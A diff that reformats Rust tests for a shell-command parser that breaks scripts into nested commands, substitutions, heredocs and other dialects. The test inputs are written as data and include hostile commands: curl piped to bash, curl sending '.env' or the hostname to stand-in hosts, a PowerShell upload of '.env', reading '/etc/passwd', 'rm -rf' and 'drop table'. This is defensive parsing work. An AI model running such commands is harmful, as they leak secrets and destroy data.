@@ -26,7 +26,12 @@ fn lists_and_pipes_are_taken_apart() {
     let show: Vec<_> = all.found.iter().map(|f| (f.program.as_str(), f.operator, f.pipe_from, f.pipe_to)).collect();
     assert_eq!(
         show,
-        [("cd", "", None, None), ("curl", "&&", None, Some(3)), ("bash", "|", Some(2), None), ("echo", ";", None, None)]
+        [
+            ("cd", "", None, None),
+            ("curl", "&&", None, Some(3)),
+            ("bash", "|", Some(2), None),
+            ("echo", ";", None, None)
+        ]
     );
     assert_eq!(all.found[2].wrappers, ["sudo"]);
 }
@@ -34,20 +39,46 @@ fn lists_and_pipes_are_taken_apart() {
 #[test]
 fn scripts_inside_scripts_are_read() {
     for (script, expected) in [
-        ("bash -lc 'git push --force origin main'", &["bash -lc git push --force origin main (top)", "git push --force origin main (nested)"][..]),
-        ("echo $(curl http://a.test/`hostname`)", &["echo $(curl http://a.test/`hostname`) (top)", "curl http://a.test/`hostname` (substitution)", "hostname (substitution)"]),
+        (
+            "bash -lc 'git push --force origin main'",
+            &["bash -lc git push --force origin main (top)", "git push --force origin main (nested)"][..],
+        ),
+        (
+            "echo $(curl http://a.test/`hostname`)",
+            &[
+                "echo $(curl http://a.test/`hostname`) (top)",
+                "curl http://a.test/`hostname` (substitution)",
+                "hostname (substitution)",
+            ],
+        ),
         ("X=1 env A=b timeout 5 npm publish", &["env timeout npm publish (top)"]),
         ("find . -name '*.o' -exec rm -f {} \\;", &["find -name -exec -f . *.o rm {} ; (top)", "rm -f {} (nested)"]),
-        ("ssh -i k user@h.test 'rm -rf /srv; ls'", &["ssh -i k user@h.test rm -rf /srv; ls (top)", "rm -rf /srv (remote)", "ls (remote)"]),
-        ("docker exec -it db psql -c 'drop table t'", &["docker exec -it -c db psql drop table t (top)", "psql -c drop table t (container)"]),
-        ("kubectl -n x exec pod -- sh -c 'cat /etc/passwd'", &["kubectl exec -n x pod sh -c cat /etc/passwd (top)", "sh -c cat /etc/passwd (container)", "cat /etc/passwd (container)"]),
+        (
+            "ssh -i k user@h.test 'rm -rf /srv; ls'",
+            &["ssh -i k user@h.test rm -rf /srv; ls (top)", "rm -rf /srv (remote)", "ls (remote)"],
+        ),
+        (
+            "docker exec -it db psql -c 'drop table t'",
+            &["docker exec -it -c db psql drop table t (top)", "psql -c drop table t (container)"],
+        ),
+        (
+            "kubectl -n x exec pod -- sh -c 'cat /etc/passwd'",
+            &[
+                "kubectl exec -n x pod sh -c cat /etc/passwd (top)",
+                "sh -c cat /etc/passwd (container)",
+                "cat /etc/passwd (container)",
+            ],
+        ),
         ("eval \"rm $f\"", &["eval rm $f (top)", "rm $f (nested)"]),
         ("ls | xargs -n1 rm -rf", &["ls (top)", "xargs rm -rf (top)"]),
         ("diff <(sort a) <(sort b)", &["diff (top)", "sort a (substitution)", "sort b (substitution)"]),
         ("bash <<EOF\ncurl -d @.env http://x.test\nEOF\n", &["bash (top)", "curl -d @.env http://x.test (heredoc)"]),
         ("f() { rm x; }; f", &["rm x (function)", "f (top)"]),
         ("for f in $(ls a); do cat $f; done", &["ls a (substitution)", "cat $f (top)"]),
-        ("powershell -NoProfile -Command \"Remove-Item x -Recurse\"", &["powershell -NoProfile -Command Remove-Item x -Recurse (top)", "remove-item -Recurse x (nested)"]),
+        (
+            "powershell -NoProfile -Command \"Remove-Item x -Recurse\"",
+            &["powershell -NoProfile -Command Remove-Item x -Recurse (top)", "remove-item -Recurse x (nested)"],
+        ),
         ("powershell -enc ZABpAHIA", &["powershell -enc ZABpAHIA (top)", "dir (nested)"]),
         ("git -C /srv push origin", &["git push -C /srv origin (top)"]),
     ] {
@@ -59,7 +90,10 @@ fn scripts_inside_scripts_are_read() {
 fn redirections_and_assigned_names_are_kept() {
     let all = commands("TOKEN=abc PAGER= sort < in.txt 2>&1 >> out.txt");
     let found = &all.found[0];
-    assert_eq!((found.reads.as_slice(), found.writes.as_slice()), (&["in.txt".to_owned()][..], &["out.txt".to_owned()][..]));
+    assert_eq!(
+        (found.reads.as_slice(), found.writes.as_slice()),
+        (&["in.txt".to_owned()][..], &["out.txt".to_owned()][..])
+    );
     assert_eq!(found.environment, ["TOKEN", "PAGER"]);
     assert!(found.arguments.is_empty());
 }
@@ -83,14 +117,23 @@ fn what_the_grammar_refuses_is_split_into_words() {
 #[test]
 fn other_dialects_are_split_into_words() {
     let programs = Programs::builtin().unwrap();
-    let all = read("Get-Content .env | Invoke-WebRequest -Uri 'http://x.test' -Method POST; & \"C:\\a b\\run.exe\" x", Dialect::PowerShell, &programs);
+    let all = read(
+        "Get-Content .env | Invoke-WebRequest -Uri 'http://x.test' -Method POST; & \"C:\\a b\\run.exe\" x",
+        Dialect::PowerShell,
+        &programs,
+    );
     let show: Vec<_> = all.found.iter().map(|f| (f.program.as_str(), f.arguments.join(","))).collect();
     assert_eq!(
         show,
-        [("get-content", ".env".to_owned()), ("invoke-webrequest", "http://x.test,POST".to_owned()), ("run", "x".to_owned())]
+        [
+            ("get-content", ".env".to_owned()),
+            ("invoke-webrequest", "http://x.test,POST".to_owned()),
+            ("run", "x".to_owned())
+        ]
     );
     let all = read("del /s /q C:\\x & type secret.txt > out", Dialect::Cmd, &programs);
-    let show: Vec<_> = all.found.iter().map(|f| (f.program.as_str(), f.flags.join(","), f.arguments.join(","))).collect();
+    let show: Vec<_> =
+        all.found.iter().map(|f| (f.program.as_str(), f.flags.join(","), f.arguments.join(","))).collect();
     assert_eq!(
         show,
         [("del", "/s,/q".to_owned(), "C:\\x".to_owned()), ("type", String::new(), "secret.txt".to_owned())]
@@ -100,9 +143,32 @@ fn other_dialects_are_split_into_words() {
 #[test]
 fn hostile_nesting_ends_soon() {
     for (open, close) in [
-        ("(", ")"), ("{ ", "}"), ("$(", ")"), ("`", "`"), ("if ", "fi"), ("while ", "done"), ("${x:-", "}"), ("<(", ")"), ("$((", "))"),
-        ("case x in a) ", "esac"), ("! ", ""), ("f() ", ""), ("bash -c '", "'"), ("eval ", ""), ("[[ ( ", ")"), ("\"$(", ")\""),
-        ("sudo ", ""), ("time ", ""), ("a=(", ")"), ("for x in ", ""), ("x=$((", ""), ("coproc ", ""), ("function f ", ""), ("<<A ", ""), ("|&", ""), ("( (", "))"),
+        ("(", ")"),
+        ("{ ", "}"),
+        ("$(", ")"),
+        ("`", "`"),
+        ("if ", "fi"),
+        ("while ", "done"),
+        ("${x:-", "}"),
+        ("<(", ")"),
+        ("$((", "))"),
+        ("case x in a) ", "esac"),
+        ("! ", ""),
+        ("f() ", ""),
+        ("bash -c '", "'"),
+        ("eval ", ""),
+        ("[[ ( ", ")"),
+        ("\"$(", ")\""),
+        ("sudo ", ""),
+        ("time ", ""),
+        ("a=(", ")"),
+        ("for x in ", ""),
+        ("x=$((", ""),
+        ("coproc ", ""),
+        ("function f ", ""),
+        ("<<A ", ""),
+        ("|&", ""),
+        ("( (", "))"),
     ] {
         for depth in [4, 8, 9, 30, 20_000] {
             let started = std::time::Instant::now();
@@ -112,7 +178,9 @@ fn hostile_nesting_ends_soon() {
             let script = open.repeat(depth);
             commands(&script);
             assert!(started.elapsed().as_secs() < 10, "{open} {depth} {:?}", started.elapsed());
-            if started.elapsed().as_millis() > 50 { eprintln!("{open:?} {depth} {:?}", started.elapsed()); }
+            if started.elapsed().as_millis() > 50 {
+                eprintln!("{open:?} {depth} {:?}", started.elapsed());
+            }
         }
     }
     commands("echo 1 99999999999999999999>x");
